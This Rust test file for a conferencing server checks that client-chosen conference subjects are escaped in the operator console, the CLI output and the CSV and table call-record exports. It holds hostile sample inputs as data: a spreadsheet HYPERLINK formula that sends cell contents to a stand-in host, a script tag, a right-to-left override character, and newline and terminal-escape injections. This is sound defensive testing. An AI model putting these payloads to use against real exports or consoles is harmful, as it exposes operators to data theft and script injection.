//! What clients may name freely and operators export: the subject of a conference in its record.

use super::{ID, Member, factory, nothing_left, service, wish};
use crate::harness::conference::Meeting;
use crate::outside::endpoint::Endpoint;
use crate::outside::metrics::fetch;
use crate::target::Target;

/// A formula for a spreadsheet, more cells, more rows, marks that turn the direction of writing,
/// and what a terminal obeys.
const SUBJECT: &str =
    "=HYPERLINK(\"http://evil.example/\"&A1),\"x\",\u{202e}<script>alert(1)</script>";

#[test]
fn a_subject_is_exported_as_it_is_and_obeyed_nowhere() {
    // 57
    let target = Target::start();
    let mut alice = Endpoint::tls(&target, "alice");
    let escaped = SUBJECT.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;");
    let wanted = wish(ID, &format!("<subject>{escaped}</subject>"), "");
    let answer = service(&mut alice, &factory("alice"), &wanted);
    assert_eq!(answer.status(), 200, "{}", answer.head);
    let alice = Member::join(alice, &Meeting::of("alice", ID));
    // Operators look while it goes on, and when it is over.
    let http = target.ready.http;
    let (status, page) = fetch(http, "/console/conferences");
    assert_eq!(status, 200, "{page}");
    assert!(!page.contains("<script>alert"), "{page}");
    let shown = target.command(&["conference", "show", ID, "--http", &http.to_string()]);
    let shown = String::from_utf8(shown.stdout).unwrap();
    assert!(shown.contains("HYPERLINK") && !shown.contains('\u{202e}'), "{shown}");
    alice.leave();
    nothing_left(&target);
    let record = target.wait_conferences_ended(1).remove(0);
    assert_eq!(record.subject, SUBJECT);

    let export = |format: &str| {
        let output = target.command(&["cdr", "--format", format]);
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).unwrap()
    };
    let mut csv = csv::Reader::from_reader(export("csv").into_bytes().leak() as &[u8]);
    let at = csv.headers().unwrap().iter().position(|name| name == "subject").unwrap();
    let rows: Vec<_> = csv.records().map(Result::unwrap).collect();
    assert!(rows.iter().all(|row| row.len() == 18), "{rows:?}");
    let subjects: Vec<&str> =
        rows.iter().map(|row| &row[at]).filter(|cell| !cell.is_empty()).collect();
    assert_eq!(subjects, [format!("'{SUBJECT}")], "no formula");
    let table = export("table");
    assert!(table.contains("HYPERLINK") && !table.contains('\u{202e}'), "{table}");
    target.survived();
}

#[test]
fn a_subject_that_is_no_plain_text_is_refused_or_one_cell() {
    // 57
    let target = Target::start();
    let mut alice = Endpoint::tls(&target, "alice");
    for (number, subject) in
        ["a&#10;b,c", "a&#13;&#10;=1+1", "\u{1b}[31m", "&#27;[31m", "\0"].iter().enumerate()
    {
        let id = format!("{number}{}", &ID[1..]);
        let wanted = wish(&id, &format!("<subject>{subject}</subject>"), "");
        let answer = service(&mut alice, &factory("alice"), &wanted);
        assert!(matches!(answer.status(), 200 | 400), "{subject:?}: {}", answer.head);
        if answer.status() == 200 {
            let member = Member::join(alice, &Meeting::of("alice", &id));
            alice = member.leave();
        }
    }
    nothing_left(&target);
    let output = target.command(&["cdr", "--format", "csv"]);
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(!text.contains('\u{1b}'), "{text:?}");
    let mut csv = csv::Reader::from_reader(text.as_bytes());
    for row in csv.records() {
        let row = row.unwrap();
        assert_eq!(row.len(), 18, "{row:?}");
        assert!(!row.iter().any(|cell| cell.starts_with('=')), "{row:?}");
    }
    target.survived();
}
